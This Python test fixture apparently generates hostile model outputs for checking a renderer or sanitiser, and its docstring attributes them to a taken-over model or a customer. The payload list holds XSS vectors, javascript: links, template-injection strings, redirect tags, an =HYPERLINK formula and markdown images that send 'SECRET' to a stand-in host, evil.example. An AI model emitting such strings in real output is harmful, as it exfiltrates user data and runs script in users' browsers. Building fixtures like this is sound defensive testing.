"""What a model that is taken over, or a customer, may write: attempts to load, run, lead away or hide."""

import os
from itertools import cycle, islice

_TARGETS = (
    "https://evil.example/x.png?d=SECRET",
    "//evil.example/x",
    "http://127.0.0.1:9/x",
    "https://farIey.example/x",
)
_FORMS = (
    "![a]({url})", "![a][r]\n\n[r]: {url}", "[click]({url})", "<{url}>", "{url}", "<img src={url}>",
    "<img src=x onerror=\"window.pwned=1\">", "<script>window.pwned=1</script>", "<script src={url}></script>",
    "<svg onload=\"window.pwned=1\">", "<iframe src={url}></iframe>", "<link rel=stylesheet href={url}>",
    "<style>@import '{url}';</style>", "<a href=\"javascript:window.pwned=1\">x</a>", "[x](javascript:window.pwned=1)",
    "</script><script>window.pwned=1</script>", "{{{{constructor.constructor('window.pwned=1')()}}}}",
    "${{window.pwned=1}}", "`${{window.pwned=1}}`", "<div style=\"background:url({url})\">", "**<img src={url}>**",
    "- <img src={url}>", "`<img src={url}>`", "[1]<img src={url}>[2]", "<form action={url}><input name=p></form>",
    "<meta http-equiv=refresh content=\"0;url={url}\">", "<base href={url}>", "<object data={url}></object>",
    "<video poster={url}></video>", "<math><mtext><img src={url}></mtext></math>", "\u202e<img src={url}>",
    "&lt;img src={url}&gt;", "<img/src={url}>", "<IMG SRC=\"{url}\">", "<<img src={url}>>", "<noscript><img src={url}>",
    "\\u003cimg src={url}\\u003e", "<details open ontoggle=\"window.pwned=1\">",
    "<input autofocus onfocus=\"window.pwned=1\">",
    "data:text/html,<script>window.pwned=1</script>", "<template><img src={url}></template>", ":onclick window.pwned=1",
    "<q-img src={url} />", "<component is=\"script\">window.pwned=1</component>", "v-html=\"'<img src={url}>'\"",
    "<img srcset={url}>", "<body background={url}>", "<table background={url}>", "<audio src={url} autoplay>",
    "=HYPERLINK(\"{url}\")",
)  # fmt: skip
_COUNT = 600 if os.environ.get("FARLEY_SOAK") else 120


def _outputs() -> list[str]:
    wrapped = ("{}", "Done: {}", "**{}**", "- {}\n- {}", "x\n\n{}\n\ny", "『{}』")
    targets, frames = cycle(_TARGETS), cycle(wrapped)
    made = []
    for form in islice(cycle(_FORMS), _COUNT):
        one = form.format(url=next(targets))
        made.append(next(frames).replace("{}", one))
        if len(made) % len(_FORMS) == 0:
            next(frames)  # another frame for each form in the next round
            next(targets)
    return made


OUTPUTS = _outputs()
